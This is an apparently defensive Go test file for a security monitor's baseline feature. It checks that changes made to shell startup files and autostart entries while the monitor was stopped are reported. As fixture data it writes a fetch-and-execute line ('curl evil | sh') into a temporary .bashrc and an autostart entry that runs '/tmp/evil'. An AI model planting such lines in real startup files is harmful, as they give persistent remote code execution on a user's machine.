package baseline_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pantheros/secmon/service/internal/baseline"
	"github.com/pantheros/secmon/service/internal/config"
	"github.com/pantheros/secmon/service/internal/event"
	"github.com/pantheros/secmon/service/internal/persist"
)

// run runs the monitor until ready, stops it (a clean stop keeps again)
// and returns what it reported, statuses left out.
func run(t *testing.T, state string, watches ...config.Watch) []event.Event {
	t.Helper()
	w, err := baseline.New(baseline.Config{StateDirectory: state, Watches: watches,
		Rules: []baseline.Rule{persist.Classify}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	var got []event.Event
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		w.Run(ctx, func(e event.Event) {
			if e.Type != event.MonitorStatus {
				got = append(got, e)
			}
		})
		close(done)
	}()
	<-w.Ready()
	cancel()
	<-done
	return got
}

func describe(evs []event.Event) []string {
	var out []string
	for _, e := range evs {
		out = append(out, string(e.Type)+" "+filepath.Base(e.Path)+" "+e.Severity.String())
	}
	return out
}

func TestBaseline(t *testing.T) {
	state := t.TempDir()
	home := filepath.Join(t.TempDir(), "home", "alice") // persist knows a home by its place
	auto := filepath.Join(home, ".config", "autostart")
	os.MkdirAll(auto, 0o755)
	rc := filepath.Join(home, ".bashrc")
	os.WriteFile(rc, []byte("alias ls='ls --color'\n"), 0o644)
	os.WriteFile(filepath.Join(auto, "keep.desktop"), []byte("x"), 0o644)
	os.WriteFile(filepath.Join(auto, "gone.desktop"), []byte("x"), 0o644)
	os.WriteFile(filepath.Join(home, "notes.txt"), []byte("x"), 0o644)
	watch := config.Watch{Path: home, Recursive: true}

	if got := run(t, state, watch); len(got) != 0 {
		t.Fatalf("the first run reported %v: it has nothing to compare with", describe(got))
	}
	if got := run(t, state, watch); len(got) != 0 {
		t.Fatalf("nothing changed, yet %v", describe(got))
	}

	// While "stopped":
	os.WriteFile(rc, []byte("alias ls='ls --color'\ncurl evil | sh\n"), 0o644)
	os.WriteFile(filepath.Join(auto, "new.desktop"), []byte("Exec=/tmp/evil"), 0o644)
	os.Remove(filepath.Join(auto, "gone.desktop"))
	os.Chmod(filepath.Join(auto, "keep.desktop"), 0o777)
	os.WriteFile(filepath.Join(home, "notes.txt"), []byte("changed"), 0o644)
	got := run(t, state, watch)
	want := []string{"FileModify .bashrc Medium", "FileCreate new.desktop Medium", "FileAttrib keep.desktop Medium", "FileDelete gone.desktop Medium"}
	slices.Sort(want)
	d := describe(got)
	slices.Sort(d)
	if !slices.Equal(d, want) {
		t.Fatalf("got %v, want %v", d, want)
	}
	for _, e := range got {
		if e.Metadata["found_by"] != "baseline" || !strings.HasPrefix(e.Description, "Changed while secmon was not running") {
			t.Errorf("%+v is not marked", e)
		}
	}

	// A watch added since: its sensitive files are new to secmon, not
	// changes made while it was stopped.
	other := filepath.Join(t.TempDir(), "home", "bob")
	os.MkdirAll(other, 0o755)
	os.WriteFile(filepath.Join(other, ".profile"), []byte("x"), 0o644)
	if got := run(t, state, watch, config.Watch{Path: other}); len(got) != 0 {
		t.Fatalf("a new watch's files were reported: %v", describe(got))
	}
}

// A watch marked sensitive has all its files fingerprinted, ordinary ones
// too.
func TestMarkedWatch(t *testing.T) {
	state, dir := t.TempDir(), t.TempDir()
	doc := filepath.Join(dir, "contract.odt")
	os.WriteFile(doc, []byte("v1"), 0o644)
	watch := config.Watch{Path: dir, Sensitive: true}
	run(t, state, watch)
	os.WriteFile(doc, []byte("v2, changed while stopped"), 0o644)
	if got := describe(run(t, state, watch)); !slices.Equal(got, []string{"FileModify contract.odt Medium"}) {
		t.Fatalf("got %v, want the marked watch's file reported", got)
	}
	watch.Sensitive = false
	os.WriteFile(doc, []byte("v3"), 0o644)
	if got := run(t, state, watch); len(got) != 0 {
		t.Fatalf("unmarked, an ordinary file was reported: %v", describe(got))
	}
}
